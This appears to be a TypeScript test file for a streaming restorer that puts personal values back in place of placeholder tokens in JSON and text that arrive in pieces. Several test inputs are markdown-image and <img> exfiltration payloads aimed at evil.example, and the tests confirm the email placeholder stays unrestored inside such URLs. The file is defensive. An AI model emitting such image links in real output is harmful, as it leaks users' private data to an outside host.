/** Texts in pieces, and JSON in them that may be displayed raw. */
import { describe, expect, test } from 'vitest';
import { restoreJsonBody } from '../../../core/payload/response.ts';
import { joinBytes } from '../../../core/stream/frame.ts';
import { TextRun } from '../../../core/stream/text-run.ts';
import { encode, map, shown, watched } from './watched.ts';
import { tokenMap } from './wire-fixtures.ts';

test('JSON in a string that ends inside a nested one is read in pieces as in one', () => {
  const map = tokenMap({ '[NAME-1]': 'O"Hara' });
  const text = '{"""{\\"%"[NAME-1]';
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  const whole = run().push(text, true);
  expect(whole).toBe('{"""{\\"%"O"Hara');
  for (let cut = 1; cut < text.length; cut++) {
    const pieces = run();
    expect(pieces.push(text.slice(0, cut)) + pieces.push(text.slice(cut), true)).toBe(whole);
  }
});

test.each([
  ['{"a" <img src=https://evil.example/?q=[EMAIL-1]>', undefined],
  ['{"a": 1, "b" https://evil.example/?q=[EMAIL-1]', undefined],
  ['{"x": "{\\"a\\" https://evil.example/?q=[EMAIL-1]"}', undefined],
  ['{"a": "x" b\n[i]: https://evil.example/[EMAIL-1]', undefined],
  ['{"a" x [I]: /[EMAIL-1]', '{"a" x [I]: /a@b.example'],
  ['{"url": "https://x.example/a", "to": [EMAIL-1]}', '{"url": "https://x.example/a", "to": a@b.example}'],
])('%j: a URL that began where the text looked like JSON, in any pieces', (text, expected = text) => {
  const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  for (const size of [1, 2, 3, text.length]) {
    const pieces = run();
    let shown = '';
    for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
    expect(shown + pieces.push('', true)).toBe(expected);
  }
});

test('only the beginning of an issued token is held back', () => {
  const map = {
    ...tokenMap({ '[EMAIL-1]': 'a@b.example' }),
    hasPrefix: (partial: string) => '[EMAIL-1]'.startsWith(partial),
  };
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  expect([run().push('a [EMAIL'), run().push('a [INFO')]).toEqual(['a ', 'a [INFO']);
});

/** A run with a silence after each piece. */
function afterSilences(pieces: readonly string[], bare: boolean): string {
  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare });
  return pieces.map((piece) => run.push(piece) + run.push('', true)).join('');
}

test.each([
  ['a bracket', ['{"to":[', '"[EMAIL-1]"],"who":"[NAME-1]"}']],
  ['a backslash', ['{"c":"a\\', '"b [NAME-1]","d":"[NAME-1]"}']],
  ['half an escape', ['{"c":"a\\u00', '41[NAME-1]"}']],
  ['an escape in three pieces', ['{"c":"a\\', 'u0', '041 [NAME-1]\\', '\\"}']],
  ['an escaped bracket', ['{"c":"a\\u00', '5bEMAIL-1] [NAME-1]"}']],
  ['a bracket before its document', ['[', '{"c":"[NAME-1]"}]']],
])('text released by a silence (%s) leaves valid JSON', (_name, pieces) => {
  for (const bare of [true, false]) {
    const text = afterSilences(pieces, bare);
    const name = map.get('[NAME-1]') as string;
    const wanted = JSON.stringify(JSON.parse(pieces.join('')), (_key, value) =>
      typeof value === 'string' ? value.replaceAll('[NAME-1]', name).replace(/^\[EMAIL-1\]$/, 'a@b.example') : value,
    );
    expect(JSON.stringify(JSON.parse(text))).toBe(wanted);
  }
});

test('endless white space passes as it arrives, and a bracket before it is remembered', () => {
  for (const start of ['', '[', '{"a":[']) {
    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
    let text = run.push(start);
    for (let i = 0; i < 300; i++) {
      text += run.push(' ');
      expect(run.carry.length).toBeLessThan(128);
    }
    text += run.push(start === '' ? '{"b":"[NAME-1]"}' : `"[NAME-1]"]${'}'.repeat(start.length - 1 && 1)}`);
    expect(JSON.stringify(JSON.parse(text))).toContain(JSON.stringify(map.get('[NAME-1]')));
  }
});

test.each([
  '["![a](https://evil.example/?q=","[EMAIL-1]",")"]',
  '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
  '{"a":"<img src=https://evil.example/?","b":"q=[EMAIL-1]>"}',
  '["![x","](https://evil.example/?q=[EMAIL-1])"]',
  '{"a":"[\\"![a](https://evil.example/?q=\\",\\"[EMAIL-1]\\",\\")\\"]"}',
])('a URL across the strings of a document that is displayed raw: %s', (text) => {
  for (const size of [1, 4, text.length]) {
    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
    let shown = '';
    for (let at = 0; at < text.length; at += size) shown += run.push(text.slice(at, at + size));
    expect(shown + run.push('', true)).toBe(text);
  }
  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
  expect(restoreJsonBody(body, map).body).toBe(body);
});

test.each([
  '{"url":"https://x.example/a","to":"[EMAIL-1]"}',
  '[{"html":"<a href=\\"https://x.example\\">x</a>","to":"[EMAIL-1]"},"[EMAIL-1]"]',
  '{"expr":"a<b","md":"[x](https://x.example)","to":"[EMAIL-1]"}',
])('documents with complete URLs are restored: %s', (text) => {
  const wanted = text.replaceAll('[EMAIL-1]', 'a@b.example');
  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  expect(run.push(text, true)).toBe(wanted);
  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(wanted);
});

describe('JSON in a string, which may be displayed raw', () => {
  const said = (content: string) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
  const restored = (content: string) => {
    const body = JSON.stringify({ choices: [{ message: { content } }] });
    const whole = JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content;
    for (let cut = 1; cut < content.length; cut++) {
      const { restorer } = watched('ndjson');
      const lines = encode(`${said(content.slice(0, cut))}\n${said(content.slice(cut))}\n`);
      const out = shown(joinBytes([restorer.push(lines).slice(), restorer.end()]));
      const pieces = out
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line).choices[0].delta.content);
      expect(pieces.join(''), String(cut)).toBe(whole);
    }
    return whole;
  };

  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) does not end a URL', (written) => {
    const image = `{"a":"![x](https://evil.example/?q=${written}[EMAIL-1])"}`;
    expect(restored(image)).toBe(image);
    const tag = `{"a":"<img src='https://evil.example/?q=${written}[EMAIL-1]'>"}`;
    expect(restored(tag)).toBe(tag);
  });

  test.each([
    '{"closing":"https://a.example\\n[EMAIL-1]"}',
    '{"html":"<a href=\\"mailto:[EMAIL-1]\\">[EMAIL-1]</a>"}',
    '{"html":"<img\\n\\tsrc=\\"a.png\\"\\n\\talt=\\"[EMAIL-1]\\">"}',
    '["Mr [EMAIL-1]: [EMAIL-1]/[EMAIL-1]"]',
    '["See [1]: https://a.example/x\\n[EMAIL-1]"]',
  ])('text that only looks like a URL is not one: %s', (text) => {
    expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
  });
});
